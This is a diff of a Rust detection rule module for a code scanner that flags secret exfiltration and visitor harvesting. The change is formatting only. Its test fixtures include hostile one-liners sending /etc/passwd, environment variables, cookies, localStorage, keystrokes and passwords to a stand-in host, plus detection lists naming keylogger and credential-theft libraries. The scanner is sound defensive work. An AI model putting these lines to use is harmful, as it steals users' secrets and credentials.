@@ -24,7 +24,10 @@ pub static ENVIRONMENT: Rule = Rule {
     spares: &[
         ("x.js", "const port = process.env.PORT || 3000; fetch(`https://api.example.com?key=${process.env.API_KEY}`)"),
         ("x.js", "const env = schema.parse(process.env); axios.get(env.API_URL)"),
-        ("x.py", "import os, requests\nrequests.get(os.environ['URL'], headers={'x': os.environ.get('KEY')})\nenv = dict(os.environ, A='1')"),
+        (
+            "x.py",
+            "import os, requests\nrequests.get(os.environ['URL'], headers={'x': os.environ.get('KEY')})\nenv = dict(os.environ, A='1')",
+        ),
     ],
 };
 pub static CREDENTIALS: Rule = Rule {
@@ -38,7 +41,10 @@ pub static CREDENTIALS: Rule = Rule {
         ("x.sh", "curl -F f=@/etc/passwd https://c.example.net"),
         ("x.sh", "env | curl -d @- https://c.example.net"),
     ],
-    spares: &[("x.js", "const s3 = new S3Client({ credentials: { secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } })")],
+    spares: &[(
+        "x.js",
+        "const s3 = new S3Client({ credentials: { secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } })",
+    )],
 };
 pub static PAGE: Rule = Rule {
     id: "harvest-visitor",
@@ -48,13 +54,22 @@ pub static PAGE: Rule = Rule {
     finds: &[
         ("x.js", "new Image().src = 'https://c.example.net/?c=' + document.cookie"),
         ("x.js", "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(localStorage) })"),
-        ("x.js", "let keys = ''; document.onkeypress = (e) => { keys += e.key; navigator.sendBeacon('https://c.example.net', keys); }"),
+        (
+            "x.js",
+            "let keys = ''; document.onkeypress = (e) => { keys += e.key; navigator.sendBeacon('https://c.example.net', keys); }",
+        ),
         ("x.js", "location.href = 'http://c.example.net/' + document.cookie"),
-        ("x.js", "const p = document.getElementById('password').value; fetch('https://c.example.net', { method: 'POST', body: p })"),
+        (
+            "x.js",
+            "const p = document.getElementById('password').value; fetch('https://c.example.net', { method: 'POST', body: p })",
+        ),
         ("x.py", "from pynput import keyboard"),
     ],
     spares: &[
-        ("x.js", "const theme = localStorage.getItem('theme'); fetch('/api/login', { method: 'POST', body: document.getElementById('password').value })"),
+        (
+            "x.js",
+            "const theme = localStorage.getItem('theme'); fetch('/api/login', { method: 'POST', body: document.getElementById('password').value })",
+        ),
         ("x.js", "addEventListener('keydown', (e) => { keys[e.key] = true; }); document.cookie = 'a=1';"),
     ],
 };
@@ -64,7 +79,15 @@ pub(super) const RULES: &[&Rule] = &[&ENVIRONMENT, &CREDENTIALS, &PAGE];
 pub(super) fn import(module: &str, line: usize, found: &mut Found<'_>) {
     let first = module.split('.').next().unwrap_or(module);
     match first {
-        "pynput" | "keyboard" | "pyHook" | "pyxhook" | "iohook" | "node-global-key-listener" | "uiohook-napi" | "node-key-sender" | "keylogger" => {
+        "pynput"
+        | "keyboard"
+        | "pyHook"
+        | "pyxhook"
+        | "iohook"
+        | "node-global-key-listener"
+        | "uiohook-napi"
+        | "node-key-sender"
+        | "keylogger" => {
             found.add(&PAGE, line, &format!("`{module}` hears every key"));
         }
         "browser_cookie3" | "browsercookie" | "pypykatz" | "keytar" | "win32crypt" | "lazagne" => {
@@ -83,19 +106,89 @@ fn sends(path: &str) -> bool {
     let start = path.split(['.', '(']).next().unwrap_or_default();
     matches!(
         start,
-        "fetch" | "axios" | "got" | "superagent" | "needle" | "requests" | "httpx" | "urllib3" | "smtplib" | "ftplib" | "nodemailer" | "undici" | "node-fetch" | "aiohttp" | "dns" | "WebSocket" | "ws" | "http" | "https" | "net" | "socket" | "phin" | "bent" | "XMLHttpRequest"
+        "fetch"
+            | "axios"
+            | "got"
+            | "superagent"
+            | "needle"
+            | "requests"
+            | "httpx"
+            | "urllib3"
+            | "smtplib"
+            | "ftplib"
+            | "nodemailer"
+            | "undici"
+            | "node-fetch"
+            | "aiohttp"
+            | "dns"
+            | "WebSocket"
+            | "ws"
+            | "http"
+            | "https"
+            | "net"
+            | "socket"
+            | "phin"
+            | "bent"
+            | "XMLHttpRequest"
     ) && !method.starts_with("createServer")
-        || matches!(path, "location.assign" | "location.replace" | "window.open" | "document.location.assign" | "document.location.replace" | "navigator.sendBeacon" | "urllib.request.urlopen" | "urllib.request.Request" | "$.post" | "$.ajax" | "$.get" | "jQuery.post" | "jQuery.ajax" | "socket.gethostbyname" | "EventSource")
-        || matches!(method, "sendBeacon" | "post" | "put" | "send" | "sendall" | "sendto" | "sendmail" | "send_message" | "emit" | "publish" | "urlopen" | "storbinary" | "patch" | "sendMail" | "getaddrinfo")
+        || matches!(
+            path,
+            "location.assign"
+                | "location.replace"
+                | "window.open"
+                | "document.location.assign"
+                | "document.location.replace"
+                | "navigator.sendBeacon"
+                | "urllib.request.urlopen"
+                | "urllib.request.Request"
+                | "$.post"
+                | "$.ajax"
+                | "$.get"
+                | "jQuery.post"
+                | "jQuery.ajax"
+                | "socket.gethostbyname"
+                | "EventSource"
+        )
+        || matches!(
+            method,
+            "sendBeacon"
+                | "post"
+                | "put"
+                | "send"
+                | "sendall"
+                | "sendto"
+                | "sendmail"
+                | "send_message"
+                | "emit"
+                | "publish"
+                | "urlopen"
+                | "storbinary"
+                | "patch"
+                | "sendMail"
+                | "getaddrinfo"
+        )
         || path.ends_with(".request().write")
         || path.ends_with(".request().end")
 }
 
 fn shows(path: &str) -> bool {
     let method = path.rsplit('.').next().unwrap_or(path);
-    matches!(path, "flask.jsonify" | "jsonify" | "flask.render_template" | "JSONResponse" | "fastapi.responses.JSONResponse" | "self.wfile.write" | "~self.wfile.write" | "django.http.JsonResponse")
-        || (path.starts_with("~res.") || path.starts_with("~response.") || path.starts_with("~reply.") || path.starts_with("~ctx.") || path.starts_with("~c."))
-            && matches!(method, "json" | "send" | "end" | "write" | "render")
+    matches!(
+        path,
+        "flask.jsonify"
+            | "jsonify"
+            | "flask.render_template"
+            | "JSONResponse"
+            | "fastapi.responses.JSONResponse"
+            | "self.wfile.write"
+            | "~self.wfile.write"
+            | "django.http.JsonResponse"
+    ) || (path.starts_with("~res.")
+        || path.starts_with("~response.")
+        || path.starts_with("~reply.")
+        || path.starts_with("~ctx.")
+        || path.starts_with("~c."))
+        && matches!(method, "json" | "send" | "end" | "write" | "render")
 }
 
 /// Where a call sends to.
@@ -108,7 +201,9 @@ enum Target {
 
 fn target(call: &Call<'_>) -> Target {
     let texts = call.args.iter().filter_map(Value::as_text);
-    let options = ["url", "host", "hostname", "baseURL", "uri"].iter().filter_map(|key| call.option(key).and_then(Value::as_text));
+    let options = ["url", "host", "hostname", "baseURL", "uri"]
+        .iter()
+        .filter_map(|key| call.option(key).and_then(Value::as_text));
     for text in texts.chain(options) {
         if let Some(host) = hosts::of(text) {
             return if hosts::is_local(&host) { Target::Own } else { Target::Host(host) };
@@ -127,10 +222,15 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
         found.add(&ENVIRONMENT, line, &format!("`{path}` shows the whole environment to whoever asks"));
         return;
     }
-    if matches!(path, "console.log" | "print" | "logging.info" | "console.error" | "logger.info") && marks.has(Marks::ENVIRONMENT) {
+    if matches!(path, "console.log" | "print" | "logging.info" | "console.error" | "logger.info")
+        && marks.has(Marks::ENVIRONMENT)
+    {
         found.hint(&ENVIRONMENT, line, "the whole environment is logged");
     }
-    if !marks.has(Marks::ENVIRONMENT.with(Marks::CREDENTIAL).with(Marks::COOKIE).with(Marks::KEYS).with(Marks::PASSWORD)) || !sends(path) {
+    if !marks
+        .has(Marks::ENVIRONMENT.with(Marks::CREDENTIAL).with(Marks::COOKIE).with(Marks::KEYS).with(Marks::PASSWORD))
+        || !sends(path)
+    {
         return;
     }
     let target = target(call);
@@ -145,7 +245,9 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
         match target {
             Target::Own => {}
             Target::Host(host) => found.add(&PAGE, line, &format!("{what} to {host}")),
-            Target::Unknown if marks.has(Marks::COOKIE) && path.starts_with("XMLHttpRequest") => found.add(&PAGE, line, what),
+            Target::Unknown if marks.has(Marks::COOKIE) && path.starts_with("XMLHttpRequest") => {
+                found.add(&PAGE, line, what)
+            }
             Target::Unknown if marks.has(Marks::COOKIE) => found.hint(&PAGE, line, what),
             Target::Unknown => {}
         }
@@ -165,16 +267,28 @@ fn visitor(marks: Marks) -> &'static str {
 /// Services that may have the keys that they gave out.
 fn is_vendor(target: &Target) -> bool {
     match target {
-        Target::Host(host) => ["amazonaws.com", "googleapis.com", "azure.com", "github.com", "npmjs.org", "windows.net", "pypi.org", "gitlab.com"]
-            .iter()
-            .any(|vendor| hosts::is_under(host, vendor)),
+        Target::Host(host) => [
+            "amazonaws.com",
+            "googleapis.com",
+            "azure.com",
+            "github.com",
+            "npmjs.org",
+            "windows.net",
+            "pypi.org",
+            "gitlab.com",
+        ]
+        .iter()
+        .any(|vendor| hosts::is_under(host, vendor)),
         Target::Own | Target::Unknown => false,
     }
 }
 
 pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
     let marks = value.all_marks();
-    let leads_out = matches!(path, "location" | "location.href" | "document.location" | "document.location.href") || path.ends_with(".src") || path.ends_with(".href") || path.ends_with(".action");
+    let leads_out = matches!(path, "location" | "location.href" | "document.location" | "document.location.href")
+        || path.ends_with(".src")
+        || path.ends_with(".href")
+        || path.ends_with(".action");
     if !leads_out || !marks.has(Marks::COOKIE.with(Marks::KEYS).with(Marks::PASSWORD)) {
         return;
     }
